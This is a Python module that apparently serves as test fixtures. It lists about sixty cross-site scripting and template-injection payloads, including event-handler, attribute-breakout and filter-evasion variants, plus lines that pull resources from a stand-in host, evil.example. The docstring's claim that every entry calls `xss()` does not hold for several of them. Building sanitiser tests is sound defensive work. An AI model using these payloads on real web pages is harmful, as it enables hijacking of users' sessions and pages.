"""Sixty texts that would be more than text in a page that believed them. Each calls `xss()` when it is run."""

_BARE = (
    "<script>xss()</script>", "<ScRiPt>xss()</sCrIpT>", "<script/src=data:,xss()></script>",
    "<scr<script>ipt>xss()</scr</script>ipt>", "</script><script>xss()</script>", "</title><script>xss()</script>",
    "</textarea><script>xss()</script>", "</style><script>xss()</script>", "--><script>xss()</script>",
    "]]><script>xss()</script>", "<script>xss()", "<img src=x onerror=xss()>", "<img src=x onerror='xss()'>",
    '<img src="x" onerror="xss()">', "<img/src=x/onerror=xss()>", "<IMG SRC=x ONERROR=xss()>",
    "<img src=`x`onerror=xss()>", "<img srcset=x onerror=xss()>", "<image src=x onerror=xss()>", "<svg onload=xss()>",
    "<svg/onload=xss()>", "<svg><script>xss()</script></svg>", "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><set onbegin=xss() attributename=x>", "<svg><a xlink:href=javascript:xss()><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=xss()></mtext></math>", "<math href=javascript:xss()>x</math>",
    "<iframe src=javascript:xss()>", "<iframe srcdoc='<script>parent.xss()</script>'>", "<iframe onload=xss()>",
    "<object data=javascript:xss()>", "<embed src=javascript:xss()>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<body onload=xss()>", "<details open ontoggle=xss()>x</details>", "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>", "<textarea autofocus onfocus=xss()>", "<video src=x onerror=xss()>",
    "<video><source onerror=xss()>", "<audio src=x onerror=xss()>", "<marquee onstart=xss()>x</marquee>",
    "<style>@import '//evil.example';</style>", "<div style=animation-name:x onanimationstart=xss()>",
    "<a href=javascript:xss()>x</a>", "<form action=javascript:xss()><input type=submit>",
    "<button formaction=javascript:xss()>x</button>", "<x onclick=xss() autofocus tabindex=1>x",
    '" onmouseover="xss()" x="', "' onfocus='xss()' autofocus x='", '"><img src=x onerror=xss()>',
    "'><svg onload=xss()>", "javascript:xss()", "${xss()}", "{{constructor.constructor('xss()')()}}",
    "{{ ''.__class__ }}{% raw %}xss(){% endraw %}", '\u2028</script><script>xss()</script>\u202e',
    "&lt;img src=x onerror=xss()&gt;&#60;script&#62;xss()",
)  # fmt: skip
PAYLOADS = tuple(f"{number:02} {text}" if number % 2 else text for number, text in enumerate(_BARE))
